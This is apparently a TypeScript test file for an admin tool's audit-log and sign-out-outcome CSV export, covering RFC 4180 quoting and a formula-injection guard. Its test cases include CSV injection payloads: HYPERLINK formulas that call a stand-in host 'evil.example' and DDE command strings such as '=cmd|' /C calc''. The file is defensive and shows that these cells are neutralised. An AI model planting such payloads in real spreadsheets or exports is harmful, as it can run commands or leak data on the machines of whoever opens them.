import {
  AUDIT_CSV_COLUMNS,
  auditCsvHeader,
  auditCsvRow,
  csvCell,
  csvRecord,
  UTF8_BOM,
} from '../../src/domain/auditCsv';
import { OUTCOMES_CSV_COLUMNS, outcomesToCsv, SIGN_IN_CSV_COLUMNS } from '../../src/domain/outcomesCsv';
import type { DirectoryUser, SignoutRequest } from '../../src/domain/types';
import type { AuditEntry } from '../../src/domain/audit';

/** The export as scripts/auditExport.ts writes it: the header, then one row per entry. */
const auditToCsv = (entries: readonly AuditEntry[], o: { bom?: boolean } = {}) =>
  (o.bom ? UTF8_BOM : '') + auditCsvHeader() + entries.map(auditCsvRow).join('');

/**
 * A strict RFC 4180 reader, independent of the writer: records end in CRLF, quoted fields may hold
 * commas, quotes (doubled) and line breaks; anything else is a syntax error.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const field = (): string => {
    if (text[i] !== '"') {
      let end = i;
      while (end < text.length && text[end] !== ',' && text[end] !== '\r' && text[end] !== '\n') end++;
      const v = text.slice(i, end);
      if (v.includes('"')) throw new Error(`bare quote at ${i}`);
      i = end;
      return v;
    }
    let v = '';
    i++;
    for (;;) {
      if (i >= text.length) throw new Error('unterminated quoted field');
      if (text[i] === '"') {
        if (text[i + 1] === '"') {
          v += '"';
          i += 2;
        } else {
          i++;
          return v;
        }
      } else v += text[i++];
    }
  };
  while (i < text.length) {
    row.push(field());
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`expected , or CRLF at ${i}: ${JSON.stringify(text.slice(i, i + 10))}`);
  }
  if (row.length) throw new Error('last record has no CRLF');
  return rows;
}

const entry = (over: Partial<AuditEntry> = {}): AuditEntry => ({
  at: '2026-11-22T12:34:56.789Z',
  event: 'requested',
  requestId: 'req-1',
  actor: { id: 'aaaa', name: 'Ada Admin' },
  targets: [
    { id: 'u1', upn: 'lester@contoso.com', name: 'Lester Lee' },
    { id: 'u2', upn: 'gwen_fabrikam.com#EXT#@contoso.onmicrosoft.com' },
  ],
  reason: 'lost laptop',
  detail: 'picked by Bob from 2 users named "Lee"',
  conversationId: '19:abc@thread.tacv2',
  source: 'group:"Migration Wave 1"',
  block: true,
  approvalWhy: 'bulk; over 10 users',
  ...over,
});

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['with space', 'with space'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rlf', '"cr\rlf"'],
    ['ünïcødé ✓', 'ünïcødé ✓'],
  ])('%j → %j', (input, out) => {
    expect(csvCell(input)).toBe(out);
  });

  it('writes nothing for undefined and null, and numbers and booleans as text', () => {
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(false)).toBe('false');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+41 79 123 45 67', "'+41 79 123 45 67"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', `"'\r=cmd"`],
    ['＝1+1', "'＝1+1"],
    ['=HYPERLINK("https://evil.example","click")', `"'=HYPERLINK(""https://evil.example"",""click"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])('guards the formula %j as %j', (input, out) => {
    expect(csvCell(input)).toBe(out);
  });

  it('leaves formula characters alone when they are not first', () => {
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvCell('lester@contoso.com')).toBe('lester@contoso.com');
    expect(csvCell(' =1')).toBe(' =1');
  });

  it('a guarded cell reads back as the text with one leading apostrophe', () => {
    for (const s of ['=1+1', '-x', '@a,b', '+"q"\n2']) expect(parseCsv(csvRecord([s]))).toEqual([[`'${s}`]]);
  });
});

describe('auditToCsv', () => {
  it('has a header row and one CRLF-terminated record per entry, in order', () => {
    const csv = auditToCsv([entry(), entry({ event: 'confirmed', actor: { id: 'bbbb', name: 'Bob' } })]);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    expect(rows[0]).toEqual([
      'at',
      'event',
      'requestId',
      'actorId',
      'actorName',
      'targets',
      'outcome',
      'graphRequestIds',
      'reason',
      'detail',
      'conversationId',
      'clientIp',
      'userAgent',
      'httpRequestId',
      'source',
      'block',
      'approvalWhy',
      'action',
      'counts',
      'blockedCount',
      'targetCount',
    ]);
    expect(rows).toHaveLength(3);
    expect(rows[1]).toEqual([
      '2026-11-22T12:34:56.789Z',
      'requested',
      'req-1',
      'aaaa',
      'Ada Admin',
      'lester@contoso.com;gwen_fabrikam.com#EXT#@contoso.onmicrosoft.com',
      '',
      '',
      'lost laptop',
      'picked by Bob from 2 users named "Lee"',
      '19:abc@thread.tacv2',
      '',
      '',
      '',
      'group:"Migration Wave 1"',
      'true',
      'bulk; over 10 users',
      '',
      '',
      '',
      '',
    ]);
    expect(rows[2].slice(1, 5)).toEqual(['confirmed', 'req-1', 'bbbb', 'Bob']);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('an empty log is the header alone', () => {
    expect(auditToCsv([])).toBe(AUDIT_CSV_COLUMNS.join(',') + '\r\n');
  });

  it('joins Graph request-ids, falls back to the object id for a target without UPN, and leaves absent fields empty', () => {
    const rows = parseCsv(
      auditCsvRow(
        entry({
          event: 'revoked',
          targets: [{ id: 'u9' }],
          outcome: 'revoked',
          graphRequestIds: ['r-1', 'r-2'],
          reason: undefined,
          detail: undefined,
          conversationId: undefined,
          source: undefined,
          block: undefined,
          approvalWhy: undefined,
        }),
      ),
    );
    expect(rows[0]).toEqual([
      '2026-11-22T12:34:56.789Z',
      'revoked',
      'req-1',
      'aaaa',
      'Ada Admin',
      'u9',
      'revoked',
      'r-1;r-2',
      ...Array(AUDIT_CSV_COLUMNS.length - 8).fill(''),
    ]);
  });

  it("exports a job's summary: its counts per outcome and how many users it blocked", () => {
    const summary = entry({
      event: 'ended',
      targets: undefined,
      counts: { revoked: 9998, notFound: 2 },
      blockedCount: 10000,
    });
    const [row] = parseCsv(auditCsvRow(summary));
    expect(row[AUDIT_CSV_COLUMNS.indexOf('counts')]).toBe('revoked=9998;notFound=2');
    expect(row[AUDIT_CSV_COLUMNS.indexOf('blockedCount')]).toBe('10000');
    // a hand-edited summary is exported as it is, formula-guarded
    const odd = { ...summary, counts: { '=cmd': [1], x: null } } as unknown as AuditEntry;
    expect(parseCsv(auditCsvRow(odd))[0][AUDIT_CSV_COLUMNS.indexOf('counts')]).toBe("'=cmd=[1];x=null");
  });

  it('exports how many targets a request has when its targets go on in `targeted` lines', () => {
    const [row] = parseCsv(auditCsvRow(entry({ event: 'requested', targetCount: 12000 })));
    expect(row[AUDIT_CSV_COLUMNS.indexOf('targetCount')]).toBe('12000');
    const [more] = parseCsv(auditCsvRow(entry({ event: 'targeted' })));
    expect(more[AUDIT_CSV_COLUMNS.indexOf('event')]).toBe('targeted');
    expect(more[AUDIT_CSV_COLUMNS.indexOf('targetCount')]).toBe('');
  });

  it('names the action of a request that is not a sign-out', () => {
    const [row] = parseCsv(auditCsvRow(entry({ action: 'unblock' })));
    expect(row[AUDIT_CSV_COLUMNS.indexOf('action')]).toBe('unblock');
  });

  it('tolerates entries missing what the type promises (an old or hand-edited log)', () => {
    const odd = { at: '2026-11-22T12:00:00Z', event: 'expired' } as unknown as AuditEntry;
    expect(parseCsv(auditCsvRow(odd))[0]).toEqual([
      '2026-11-22T12:00:00Z',
      'expired',
      ...Array(AUDIT_CSV_COLUMNS.length - 2).fill(''),
    ]);
  });

  it('exports a CSV download with its address, user agent (guarded) and HTTP request id', () => {
    const rows = parseCsv(
      auditCsvRow({
        at: '2026-11-22T13:00:00Z',
        event: 'downloaded',
        requestId: 'req-1',
        actor: {},
        outcome: 'served',
        client: { ip: '198.51.100.9', userAgent: '=cmd|"/c calc"!A1, Mozilla/5.0', httpRequestId: 'h-1' },
      }),
    )[0];
    const cell = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => rows[AUDIT_CSV_COLUMNS.indexOf(name)];
    expect(rows).toHaveLength(AUDIT_CSV_COLUMNS.length);
    expect(cell('event')).toBe('downloaded');
    expect(cell('outcome')).toBe('served');
    expect(cell('clientIp')).toBe('198.51.100.9');
    expect(cell('userAgent')).toBe(`'=cmd|"/c calc"!A1, Mozilla/5.0`);
    expect(cell('httpRequestId')).toBe('h-1');
  });

  it('user text with commas, quotes, line breaks and formulas round-trips, guarded, in its own cell', () => {
    const nasty = '=HYPERLINK("https://evil.example?"&A1,"x"), then\r\n"more"';
    const rows = parseCsv(
      auditToCsv([
        entry({
          reason: nasty,
          detail: '+cmd',
          source: nasty,
          actor: { id: '@id', name: '-Ada, "the" admin' },
        }),
      ]),
    );
    expect(rows).toHaveLength(2);
    expect(rows[1][3]).toBe("'@id");
    expect(rows[1][4]).toBe(`'-Ada, "the" admin`);
    expect(rows[1][8]).toBe(`'${nasty}`);
    expect(rows[1][9]).toBe("'+cmd");
    expect(rows[1][AUDIT_CSV_COLUMNS.indexOf('source')]).toBe(`'${nasty}`);
    // no cell, once read, starts with a formula character
    for (const cell of rows[1]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('a UPN that starts with a formula character is guarded too', () => {
    const rows = parseCsv(auditCsvRow(entry({ targets: [{ id: 'u', upn: '=cmd@contoso.com' }] })));
    expect(rows[0][5]).toBe("'=cmd@contoso.com");
  });

  it('starts with a UTF-8 byte-order mark only when asked', () => {
    expect(auditToCsv([]).startsWith('at,')).toBe(true);
    expect(auditToCsv([], { bom: true }).startsWith(UTF8_BOM + 'at,')).toBe(true);
  });
});

describe('outcomesToCsv', () => {
  const user = (i: number, over: Partial<DirectoryUser> = {}): DirectoryUser => ({
    id: `id-${i}`,
    displayName: `User ${i}`,
    userPrincipalName: `u${i}@contoso.com`,
    userType: 'Member',
    ...over,
  });
  const req = (over: Partial<SignoutRequest> = {}): SignoutRequest => ({
    id: 'req',
    tenantId: 't',
    status: 'done',
    createdAt: '2026-11-22T12:00:00Z',
    expiresAt: '2026-11-22T12:15:00Z',
    requester: { id: 'a', name: 'Ada' },
    reason: '',
    targets: [
      user(1),
      user(2, { userType: 'Guest' }),
      user(3, { privilegedRoles: ['Global Administrator', 'Exchange Administrator'] }),
      user(4),
    ],
    conversation: { reference: {} },
    outcomes: [
      { userId: 'id-1', kind: 'revoked', validFrom: '2026-11-22T12:01:00Z', requestId: 'g-1' },
      { userId: 'id-2', kind: 'guestSkipped', validFrom: '2026-11-22T12:01:01Z' },
      {
        userId: 'id-3',
        kind: 'denied',
        code: 'Authorization_RequestDenied',
        requestId: 'g-3',
        message: 'Not allowed, "privileged"',
      },
      { userId: 'ghost', kind: 'notFound', code: 'Request_ResourceNotFound' },
    ],
    ...over,
  });

  it('one record per target in order, then outcomes of unknown ids; missing outcomes say notSignedOut', () => {
    const rows = parseCsv(outcomesToCsv(req()));
    expect(rows[0]).toEqual([...OUTCOMES_CSV_COLUMNS]);
    expect(rows.slice(1)).toEqual([
      ['id-1', 'User 1', 'u1@contoso.com', 'Member', '', 'revoked', '2026-11-22T12:01:00Z', '', 'g-1', ''],
      ['id-2', 'User 2', 'u2@contoso.com', 'Guest', '', 'guestSkipped', '2026-11-22T12:01:01Z', '', '', ''],
      [
        'id-3',
        'User 3',
        'u3@contoso.com',
        'Member',
        'Global Administrator;Exchange Administrator',
        'denied',
        '',
        'Authorization_RequestDenied',
        'g-3',
        'Not allowed, "privileged"',
      ],
      ['id-4', 'User 4', 'u4@contoso.com', 'Member', '', 'notSignedOut', '', '', '', ''],
      ['ghost', '', '', '', '', 'notFound', '', 'Request_ResourceNotFound', '', ''],
    ]);
  });

  it('a target without outcome is pending while the job runs', () => {
    const rows = parseCsv(outcomesToCsv(req({ status: 'running' })));
    expect(rows[4][5]).toBe('pending');
  });

  it("adds the follow-up's sign-in figures once a bulk job's follow-up read the logs (issue 12)", () => {
    const rows = parseCsv(
      outcomesToCsv(
        req({
          signInCheck: {
            at: '2026-11-22T13:30:00Z',
            users: [
              {
                userId: 'id-1',
                refused: 3,
                newSignIns: 1,
                lastNewSignInAt: '2026-11-22T12:40:00Z',
                newPlace: '=1+1 (BR)',
              },
            ],
          },
        }),
      ),
    );
    expect(rows[0]).toEqual([...OUTCOMES_CSV_COLUMNS, ...SIGN_IN_CSV_COLUMNS]);
    expect(rows[1].slice(-4)).toEqual(['3', '1', '2026-11-22T12:40:00Z', "'=1+1 (BR)"]);
    expect(rows[2].slice(-4)).toEqual(['', '', '', '']);
  });

  it('shares the formula guard with the audit export', () => {
    const rows = parseCsv(
      outcomesToCsv(
        req({
          targets: [user(1, { displayName: '=HYPERLINK("x")', userPrincipalName: '@x' })],
          outcomes: [{ userId: 'id-1', kind: 'failed', message: '-1+2', code: '+c' }],
        }),
      ),
    );
    expect(rows[1]).toEqual([
      'id-1',
      '\'=HYPERLINK("x")',
      "'@x",
      'Member',
      '',
      'failed',
      '',
      "'+c",
      '',
      "'-1+2",
    ]);
  });

  it('has one row per target for 10,000 targets, in target order', () => {
    const targets = Array.from({ length: 10_000 }, (_, i) => user(i));
    const outcomes = targets.map((t) => ({ userId: t.id, kind: 'revoked' as const })).reverse();
    const rows = outcomesToCsv(req({ targets, outcomes })).split('\r\n');
    expect(rows).toHaveLength(10_002);
    expect(rows[1].startsWith('id-0,User 0,u0@contoso.com,Member,,revoked')).toBe(true);
    expect(rows[10_000].startsWith('id-9999,User 9999,u9999@contoso.com,Member,,revoked')).toBe(true);
  });
});
